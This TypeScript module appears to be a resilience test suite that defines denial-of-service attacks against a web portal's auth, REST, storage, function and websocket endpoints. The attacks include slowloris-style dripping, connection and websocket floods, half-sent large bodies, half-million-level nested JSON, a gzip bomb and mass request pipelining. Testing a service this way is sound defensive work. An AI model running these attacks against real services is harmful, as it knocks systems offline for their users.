import { gzipSync } from 'node:zlib';
import type { Abuse } from './weapons.ts';

const MEGABYTE = 1024 * 1024;
const DEEP = '['.repeat(500_000);
/** Shared, so the attacker's own process is not flooded with them. */
const ALMOST_ONE = Buffer.alloc(MEGABYTE - 10, 'x');
const ALMOST_EIGHT = Buffer.alloc(8 * MEGABYTE - 10, 'x');

export const transportAbuses: readonly Abuse[] = [
  {
    name: 'headers that never end',
    run: async ({ dial, over }) => {
      const sockets = await Promise.all(Array.from({ length: 400 }, () => dial()));
      for (const socket of sockets) socket.write('GET /healthz HTTP/1.1\r\nhost: portal\r\n');
      const drip = setInterval(() => {
        for (const socket of sockets) if (!socket.destroyed) socket.write('x-slow: 1\r\n');
      }, 200);
      over.addEventListener('abort', () => clearInterval(drip));
    },
  },
  {
    name: 'connections that say nothing',
    run: ({ dial }) => Promise.all(Array.from({ length: 1500 }, (_, i) => dial(10 + (i % 40)))),
  },
  {
    name: 'connections that come and go',
    run: ({ inParallel, dial }) =>
      inParallel(60, async () => {
        const socket = await dial();
        socket.destroy();
      }),
  },
  {
    name: 'bodies that stop in the middle, by visitors',
    run: ({ halfRequest }) =>
      Promise.all(
        Array.from({ length: 150 }, (_, i) =>
          halfRequest({
            path: ['/rest/v1/contact_submissions', '/auth/v1/token?grant_type=password'][i % 2] ?? '/',
            length: MEGABYTE,
            body: ALMOST_ONE,
          }),
        ),
      ),
  },
  {
    name: 'bodies that stop in the middle, by a client',
    run: ({ halfRequest }) =>
      Promise.all(
        Array.from({ length: 150 }, () =>
          halfRequest({
            path: '/rest/v1/tax_form_drafts',
            as: 'client',
            length: MEGABYTE,
            body: ALMOST_ONE,
          }),
        ),
      ),
  },
  {
    name: 'eight megabytes for the archive, by a visitor',
    run: ({ halfRequest }) =>
      Promise.all(
        Array.from({ length: 100 }, () =>
          halfRequest({
            path: '/functions/v1/archive',
            as: 'none',
            length: 8 * MEGABYTE,
            body: ALMOST_EIGHT,
          }),
        ),
      ),
  },
  {
    name: 'eight megabytes for the archive, by a client',
    run: ({ halfRequest }) =>
      Promise.all(
        Array.from({ length: 100 }, () =>
          halfRequest({
            path: '/functions/v1/archive',
            as: 'client',
            length: 8 * MEGABYTE,
            body: ALMOST_EIGHT,
          }),
        ),
      ),
  },
  {
    name: 'bodies byte by byte, in chunks',
    run: async ({ halfRequest, over, headersFor, scene: { userId } }) => {
      const lines = Object.entries(headersFor('client')).map(([name, value]) => `${name}: ${value}\r\n`);
      const sockets = await Promise.all(
        Array.from({ length: 60 }, () =>
          halfRequest({ path: '/rest/v1/tax_form_drafts', method: 'GET', length: 0 }),
        ),
      );
      for (const [i, socket] of sockets.entries()) {
        const path =
          i % 2 ? '/rest/v1/tax_form_drafts' : `/storage/v1/object/user-documents/${userId}/${i}.txt`;
        socket.write(
          `POST ${path} HTTP/1.1\r\nhost: portal\r\n${lines.join('')}content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
        );
      }
      const drip = setInterval(() => {
        for (const socket of sockets) if (!socket.destroyed) socket.write('1\r\n \r\n'.repeat(200));
      }, 20);
      over.addEventListener('abort', () => clearInterval(drip));
    },
  },
  {
    name: 'JSON half a million levels deep',
    run: ({ inParallel, ask, scene: { userId } }) =>
      inParallel(16, (loop) =>
        ask(
          [
            { method: 'POST', path: '/auth/v1/signup', body: `{"data":${DEEP}` },
            { method: 'POST', path: '/rest/v1/tax_form_drafts', body: DEEP, as: 'client' as const },
            {
              method: 'POST',
              path: '/rest/v1/tax_form_drafts',
              as: 'client' as const,
              body: `{"user_id":"${userId}","year":2026,"form_data":${'{"a":'.repeat(60_000)}1${'}'.repeat(60_000)}}`,
            },
            {
              method: 'POST',
              path: '/storage/v1/object/list/user-documents',
              body: `{"prefix":${DEEP}${']'.repeat(500_000)}}`,
              as: 'client' as const,
            },
          ][loop % 4] ?? { path: '/' },
        ),
      ),
  },
  {
    name: 'huge headers, and a thousand cookies',
    run: ({ inParallel, ask }) =>
      inParallel(40, (loop) =>
        ask({
          path: '/auth/v1/settings',
          headers: loop % 2 ? { 'x-huge': 'x'.repeat(60_000) } : { cookie: 'a=b; '.repeat(2500) },
        }),
      ),
  },
  {
    name: 'compressed bodies',
    run: ({ inParallel, ask }) => {
      const body = gzipSync(Buffer.alloc(50 * MEGABYTE));
      return inParallel(24, () =>
        ask({
          method: 'POST',
          path: '/rest/v1/contact_submissions',
          headers: { 'content-encoding': 'gzip' },
          body,
        }),
      );
    },
  },
  {
    name: 'pipelining: a thousand requests on each connection',
    run: async ({ inParallel, dial, headersFor, saw }) => {
      const lines = Object.entries(headersFor('client')).map(([name, value]) => `${name}: ${value}\r\n`);
      const one = `GET /rest/v1/checklist_items?select=id HTTP/1.1\r\nhost: portal\r\n${lines.join('')}\r\n`;
      await inParallel(10, async () => {
        const socket = await dial();
        socket.once('data', () => saw('answered'));
        socket.write(one.repeat(1000));
        // The first one is read; the rest are not.
        socket.once('data', () => socket.pause());
        await new Promise((resolve) => socket.once('close', resolve));
      });
    },
  },
  {
    name: 'requests that are given up at once',
    run: ({ inParallel, halfRequest }) =>
      inParallel(30, async () => {
        const socket = await halfRequest({
          path: '/rest/v1/checklist_items?select=*',
          method: 'GET',
          as: 'client',
          length: 0,
        });
        socket.destroy();
      }),
  },
  {
    name: 'bodies for addresses that take none',
    run: ({ inParallel, ask }) =>
      inParallel(24, (loop) =>
        ask({
          method: 'POST',
          path: ['/nowhere', '/healthz', '/functions/v1/none', '/realtime/v1/websocket'][loop % 4] ?? '/',
          body: JSON.stringify({ a: 'x'.repeat(900_000) }),
        }),
      ),
  },
  {
    name: 'zips that are not read',
    run: async ({ inParallel, halfRequest, dial, scene: { userId, token } }) => {
      const body = JSON.stringify({ owner_id: userId, paths: [`${userId}/folder`] });
      await inParallel(40, async () => {
        const order = await halfRequest({
          path: '/functions/v1/archive',
          headers: { authorization: `Bearer ${token}` },
          length: body.length,
          body,
        });
        const text = await new Promise<string>((resolve) => {
          order.once('data', (answer) => resolve(String(answer)));
          order.once('close', () => resolve(''));
        });
        order.destroy();
        const url = /"url":"([^"]+)"/.exec(text)?.[1];
        if (url === undefined) return;
        const socket = await dial();
        socket.pause();
        socket.write(`GET ${url} HTTP/1.1\r\nhost: portal\r\n\r\n`);
        await new Promise((resolve) => socket.once('close', resolve));
      });
    },
  },
  {
    name: 'calendar queries',
    run: ({ inParallel, ask }) =>
      inParallel(32, (loop) => ask({ path: '/functions/v1/calendar?days=14', from: 10 + loop })),
  },
  {
    name: 'websockets that only wait',
    run: ({ websocket }) =>
      Promise.all(Array.from({ length: 600 }, (_, i) => websocket(i < 300 ? 2 : 10 + (i % 20)))),
  },
  {
    name: 'websockets that talk without end, and do not listen',
    run: async ({ inParallel, websocket, scene: { token } }) => {
      const wishes = Array.from({ length: 20 }, () => ({ event: '*', schema: 'public', table: '*' }));
      await inParallel(30, async (loop) => {
        const socket = await websocket();
        socket.pause();
        for (let i = 0; i < 90 && socket.readyState === socket.OPEN; i++) {
          const join = { access_token: token, config: { postgres_changes: wishes }, pad: 'x'.repeat(50_000) };
          socket.send(JSON.stringify([`${i}`, `${i}`, `realtime:${loop}-${i}`, 'phx_join', join]));
        }
        await new Promise((resolve) => {
          if (socket.readyState === socket.CLOSED) resolve(undefined);
          else socket.once('close', resolve);
          setTimeout(resolve, 500);
        });
        socket.terminate();
      });
    },
  },
];
